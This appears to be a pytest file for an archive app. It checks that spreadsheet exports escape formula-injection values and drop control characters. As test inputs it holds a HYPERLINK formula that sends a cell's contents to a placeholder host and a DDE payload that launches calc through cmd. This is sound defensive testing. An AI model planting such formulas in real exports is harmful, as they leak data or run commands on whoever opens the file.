"""Insider: a title or purpose typed as a formula, or holding a control character, in exports.

Before the fix the formula was written as a live formula (it runs on the reader's machine) and
one control character made openpyxl refuse the whole export.
"""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.clock import FixedClock
from app.domain.roles import Role
from app.security.cells import safe_cell, safe_text
from app.services import audit, exports, imports
from app.services.audit import AuditFilter
from app.services.auth import SignedIn, sign_out
from app.services.catalogue import VolumeDraft, create_volume
from app.services.customers import register_customer
from app.storage.location import DatabaseLocation
from tests.factories import person, sign_in_as
from tests.import_helpers import import_rows, mapped_ledger
from tests.integration.conftest import archivist  # noqa: F401 (fixture)

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点此")'
BELL = "合同\x07附件\x1b"


@pytest.fixture
def auditor(admin: SignedIn, location: DatabaseLocation, clock: FixedClock) -> Iterator[SignedIn]:
    session = sign_in_as(admin, location, clock, "audit", [Role.AUDITOR])
    yield session
    sign_out(session=session, clock=clock)


def _cells(data: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [c.value for row in sheet.iter_rows() for c in row if c.value is not None]


def _no_formula_or_control(values: list[object]) -> None:
    for v in values:
        if isinstance(v, str):
            assert not v.startswith(("=", "+", "-", "@")), v
            assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in v), v


def test_the_helper_escapes_formulas_and_drops_control_characters() -> None:
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("+86 138") == "'+86 138"
    assert safe_text("-5") == "'-5" and safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert safe_text("\x01=cmd") == "'=cmd"  # removing a control character cannot unmask one
    assert safe_text(BELL) == "合同附件" and safe_text("a\tb\nc") == "a\tb\nc"
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("普通") == "普通"


def test_volume_export_with_formula_title_and_control_characters(
    archivist: SignedIn,  # noqa: F811
    clock: FixedClock,
) -> None:
    owner = register_customer(session=archivist, draft=person(), clock=clock)
    for title in (FORMULA, BELL):
        create_volume(
            session=archivist,
            draft=VolumeDraft(customer_id=owner.customer_id, year=2024, title=title, retention="Y"),
            clock=clock,
        )
    data = exports.export_volumes(
        session=archivist, query="", purpose="@盘点\x07 =1+1", clock=clock
    )
    values = _cells(data)
    _no_formula_or_control(values)
    assert "'" + FORMULA in values and "合同附件" in values
    customers = exports.export_customers(session=archivist, purpose="=年度\x0b盘点", clock=clock)
    _no_formula_or_control(_cells(customers))


def test_audit_export_with_formula_and_control_character_purpose(
    archivist: SignedIn,  # noqa: F811
    auditor: SignedIn,
    clock: FixedClock,
) -> None:
    exports.export_customers(session=archivist, purpose=FORMULA + "\x07", clock=clock)
    data = audit.export_audit(
        session=auditor,
        audit_filter=AuditFilter(action="export.customers"),
        fmt="xlsx",
        purpose="-检查\x1f",
        clock=clock,
    )
    values = _cells(data)
    _no_formula_or_control(values)
    assert "'" + FORMULA in values


def test_rejected_rows_workbook_with_formula_cells(
    archivist: SignedIn,  # noqa: F811
    clock: FixedClock,
    tmp_path: Path,
) -> None:
    path = tmp_path / "ledger.csv"
    path.write_text("序号,姓名,证件号码\n1,\"=cmd|' /C calc'!A0\",bad-id\x07\n", encoding="utf-8")
    ledger, mapping = mapped_ledger(archivist, clock, path, "customers")
    summary = import_rows(archivist, clock, "customers", ledger, mapping)
    data = imports.rejected_rows_xlsx(
        session=archivist, kind="customers", ledger=ledger, outcomes=summary.outcomes, clock=clock
    )
    values = _cells(data)
    _no_formula_or_control(values)
    assert "'=cmd|' /C calc'!A0" in values


def test_every_workbook_the_program_writes_goes_through_safe_cells() -> None:
    """No export can forget the escaping.

    Every module that makes an openpyxl ``Workbook`` appends rows only through ``safe_row``
    and sets no cell value directly.
    """
    import ast

    root = Path(__file__).resolve().parents[2] / "app"
    writers: list[str] = []
    unsafe: list[str] = []
    for path in sorted(root.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {
            alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl")
            for alias in node.names
        }
        if "Workbook" not in names:
            continue
        writers.append(path.relative_to(root.parent).as_posix())
        for node in ast.walk(tree):
            where = f"{path.relative_to(root.parent).as_posix()}:{getattr(node, 'lineno', 0)}"
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "append"
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id in ("sheet", "ws", "worksheet")
            ):
                arg = node.args[0] if node.args else None
                if not (
                    isinstance(arg, ast.Call)
                    and isinstance(arg.func, ast.Name)
                    and arg.func.id == "safe_row"
                ):
                    unsafe.append(where)
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                if node.func.attr == "cell" and any(k.arg == "value" for k in node.keywords):
                    unsafe.append(where)
            elif isinstance(node, ast.Assign):
                for target in node.targets:
                    if isinstance(target, ast.Attribute) and target.attr == "value":
                        unsafe.append(where)
                    if (
                        isinstance(target, ast.Subscript)
                        and isinstance(target.value, ast.Name)
                        and target.value.id in ("sheet", "ws", "worksheet")
                    ):
                        unsafe.append(where)
    assert writers == [
        "app/services/audit/export.py",
        "app/services/exports.py",
        "app/services/imports/rejected.py",
        "app/services/statistics/export.py",
    ]
    assert unsafe == []
